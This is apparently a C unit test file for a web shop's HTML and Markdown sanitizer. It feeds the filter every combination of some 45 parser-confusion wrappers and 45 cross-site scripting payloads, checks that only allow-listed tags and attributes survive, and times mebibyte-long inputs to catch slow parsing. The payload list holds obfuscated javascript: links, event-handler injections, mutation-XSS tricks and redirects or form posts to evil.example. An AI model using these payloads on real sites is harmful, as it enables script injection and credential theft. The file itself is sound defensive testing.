/*
 * Texts by somebody who wants to run something in another's browser: every trick with every load,
 * as HTML and as Markdown, and texts that are made to take long. What comes out has only known
 * tags, only checked attributes, and ends every tag that it begins.
 */
#include <time.h>

#include "base/clock.h"
#include "base/str.h"
#include "shop/page.h"
#include "shop/page_filter.h"
#include "fixture.h"

static const char *const allowed =
    " p br b strong i em u s ul ol li h1 h2 h3 h4 h5 h6 blockquote table thead tbody tr td th a code "
    "pre hr dl dt dd sub sup small div img ";

static int is_allowed(struct souk_str name)
{
    char word[16];
    if (name.len == 0 || name.len > 12)
        return 0;
    snprintf(word, sizeof word, " %.*s ", SOUK_PRI(name));
    return strstr(allowed, word) != NULL;
}

/* Attributes by name, with a value in quotation marks; links that begin well. */
static int are_quiet(struct souk_str rest)
{
    while ((rest = str_trim(rest)).len && !souk_str_is(rest, "/")) {
        const char *mark = memmem(rest.ptr, rest.len, "=\"", 2);
        if (!mark)
            return 0;
        struct souk_str name = str_make(rest.ptr, (size_t)(mark - rest.ptr));
        struct souk_str value = str_from(rest, name.len + 2);
        const char *end = memchr(value.ptr, '"', value.len);
        if (!end)
            return 0;
        rest = str_from(value, (size_t)(end - value.ptr) + 1);
        value.len = (size_t)(end - value.ptr);
        int link = str_starts(value, "https://") || str_starts(value, "http://") ||
                   str_starts(value, "mailto:") ||
                   (str_starts(value, "/") && !str_starts(value, "//"));
        int fine = souk_str_is(name, "href")  ? link
                   : souk_str_is(name, "src") ? str_starts(value, "/") && !str_starts(value, "//")
                   : souk_str_is(name, "class")
                       ? str_starts(value, "language-")
                       : souk_str_is(name, "alt") || souk_str_is(name, "title") ||
                             souk_str_is(name, "start");
        if (!fine)
            return 0;
    }
    return 1;
}

static const char *check(struct souk_str html)
{
    int depth = 0;
    if (memchr(html.ptr, 0, html.len))
        return "a NUL";
    for (size_t i = 0; i < html.len; i++) {
        if (html.ptr[i] != '<')
            continue;
        const char *end = memchr(html.ptr + i, '>', html.len - i);
        if (!end)
            return "a tag without an end";
        int close = html.ptr[i + 1] == '/';
        size_t start = i + 1 + (size_t)close, stop = start, last = (size_t)(end - html.ptr);
        while (stop < last && html.ptr[stop] != ' ' && html.ptr[stop] != '/')
            stop++;
        struct souk_str name = str_make(html.ptr + start, stop - start);
        if (!is_allowed(name))
            return "a tag that is not in the list";
        if (!are_quiet(str_make(html.ptr + stop, last - stop)))
            return "an attribute";
        if (!souk_str_is(name, "br") && !souk_str_is(name, "hr") && !souk_str_is(name, "img"))
            depth += close ? -1 : 1;
        i = last;
    }
    return depth == 0 ? NULL : "tags that do not match";
}

/* %s is where the load goes. */
static const char *const tricks[] = {
    "%s",
    "<p>%s</p>",
    "<div><p>%s",
    "<svg>%s",
    "<svg><style>%s",
    "<svg></p><style>%s</style></svg>",
    "<math><mtext><table><mglyph><style>%s",
    "<math><annotation-xml encoding=\"text/html\">%s</annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math>%s",
    "<noscript><p title=\"</noscript>%s\">",
    "<template><s>%s</s></template>",
    "<!--><!-- %s -->-->",
    "<!-- --!>%s<!-- -->",
    "<!---->%s",
    "<![CDATA[]]>%s<![CDATA[>]]>",
    "<?x ?>%s<?y >",
    "<!DOCTYPE x [<!ENTITY y '%s'>]>%s",
    "<style><!--</style>%s-->",
    "<textarea></textarea>%s",
    "<title></title>%s",
    "<xmp></xmp>%s",
    "<select><option>%s</select>%s",
    "<table><tr><td>%s<table>%s",
    "<table>%s",
    "<ul>%s<li>",
    "<pre>%s",
    "<a href=\"/x\">%s</a>",
    "<a href='/x\">%s'>y</a>",
    "<a title=\"%s\" href=/x>y</a>",
    "<p title='\">%s'>y",
    "<p/%s>",
    "<<p>%s",
    "<p <p>%s",
    "</%s>",
    "<%%00p>%s",
    "&lt;%s&gt;",
    "**%s**",
    "`%s`",
    "> %s",
    "[%s](/x)",
    "[x](/y \"%s\")",
    "![%s](/media/x.png)",
    "![x](/media/x.png \"%s\")",
    "```%s\nx\n```",
    "<%s>",
};

static const char *const loads[] = {
    "<script>alert(1)</script>",
    "<ScRiPt/x>alert(1)</sCrIpT",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script xlink:href=data:,alert(1)></script>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\" \x01 jAvAsCrIpT&colon;alert(1)\">x</a>",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<a href=&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)>x</a>",
    "<a href=\"&#0000106avascript:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<a href=\"/\\evil.example\">x</a>",
    "<a href=\"/&Tab;/evil.example\">x</a>",
    "<a href=\"/x\" href=\"javascript:1\" onclick=\"alert(1)\">x</a>",
    "<a/href=/x/onmouseover=alert(1)>x</a>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style=\"position:fixed;inset:0\">x</p>",
    "<p id=token name=csrf class=button>x</p>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>",
    "<x contenteditable onblur=alert(1)>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<![endif]--><script>alert(1)</script>",
    "<\xc0\xbcscript>alert(1)</script>",
    "<scr\xe2\x80\x8bipt>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](//evil.example/x.png)",
};

static void test_every_trick_with_every_load(void **state)
{
    struct arena arena = {0};
    size_t count = 0;
    (void)state;
    for (size_t t = 0; t < sizeof tricks / sizeof *tricks; t++) {
        for (size_t l = 0; l < sizeof loads / sizeof *loads; l++) {
            struct buf text = {.arena = &arena};
            for (const char *c = tricks[t]; *c; c++)
                if (c[0] == '%' && c[1] == 's')
                    buf_add_cstr(&text, loads[l]), c++;
                else if (strncmp(c, "%%00", 4) == 0)
                    buf_add_char(&text, '\0'), c += 3;
                else
                    buf_add_char(&text, *c);
            struct buf out = {.arena = &arena};
            page_filter(&out, buf_str(&text));
            const char *wrong = check(buf_str(&out));
            struct souk_str shown = page_html(&arena, buf_str(&text));
            if (!wrong)
                wrong = check(shown);
            if (wrong)
                fail_msg("%s: %.*s gave %.*s and %.*s", wrong, SOUK_PRI(buf_str(&text)),
                         SOUK_PRI(buf_str(&out)), SOUK_PRI(shown));
            count++;
        }
        arena_reset(&arena);
    }
    assert_true(count >= 1500);
    arena_free(&arena);
}

/* What was made safe once is let be: nothing changes its meaning when it is read again. */
static void test_made_safe_stays(void **state)
{
    struct arena arena = {0};
    (void)state;
    for (size_t l = 0; l < sizeof loads / sizeof *loads; l++) {
        struct buf once = {.arena = &arena}, twice = {.arena = &arena};
        page_filter(&once, souk_str(loads[l]));
        page_filter(&twice, buf_str(&once));
        assert_true(souk_str_equal(buf_str(&once), buf_str(&twice)));
    }
    arena_free(&arena);
}

static void repeat(struct buf *text, const char *part, size_t size)
{
    while (text->len < size)
        buf_add_cstr(text, part);
}

static int64_t spent(void)
{
    struct timespec now;
    clock_gettime(CLOCK_THREAD_CPUTIME_ID, &now);
    return now.tv_sec * CLOCK_SECOND + now.tv_nsec / 1000;
}

/* A mebibyte each. Measured 0 to 100 ms of the processor; under sanitizers fifty times that. What
 * grows with the square takes minutes. */
static void test_nothing_takes_long(void **state)
{
    static const char *const parts[] = {
        "<div>",
        "<b>",
        "</b>",
        "<",
        "<a",
        "<a href=\"",
        "<!--",
        "<svg>",
        "<script ",
        "&",
        "&#",
        "&amp",
        "<ul><li>",
        "<table><tr><td>",
        "<p><table>",
        "<b><p>",
        "<a href=/x>y",
        "</p>",
        "[",
        "![",
        "[x](",
        "*",
        "_a ",
        "> ",
        "`",
        "- ",
        "](",
        "**a ",
        "<x",
        "[a](javascript:b) ",
        "\n\n",
        "# ",
        "[a]: /b\n",
        "<<",
        "</a ",
        "1. ",
    };
    struct arena arena = {0};
    (void)state;
    for (size_t i = 0; i < sizeof parts / sizeof *parts; i++)
        for (int html = 0; html < 2; html++) {
            struct buf text = {.arena = &arena};
            if (html)
                buf_add_cstr(&text, "<p>");
            repeat(&text, parts[i], 1 << 20);
            int64_t start = spent();
            struct souk_str made = page_html(&arena, buf_str(&text));
            int64_t span = spent() - start;
            if (getenv("PAGE_TIMES"))
                print_message("%d %s: %lld ms, %zu\n", html, parts[i], (long long)(span / CLOCK_MS),
                              made.len);
            if (span > 10 * CLOCK_SECOND)
                fail_msg("a mebibyte of \"%s\" took %lld ms", parts[i],
                         (long long)(span / CLOCK_MS));
            page_plain(&arena, buf_str(&text), 160);
            if (spent() - start > 20 * CLOCK_SECOND)
                fail_msg("a mebibyte of \"%s\" took too long as plain text", parts[i]);
            arena_reset(&arena);
        }
    arena_free(&arena);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_every_trick_with_every_load),
        cmocka_unit_test(test_made_safe_stays),
        cmocka_unit_test(test_nothing_takes_long),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
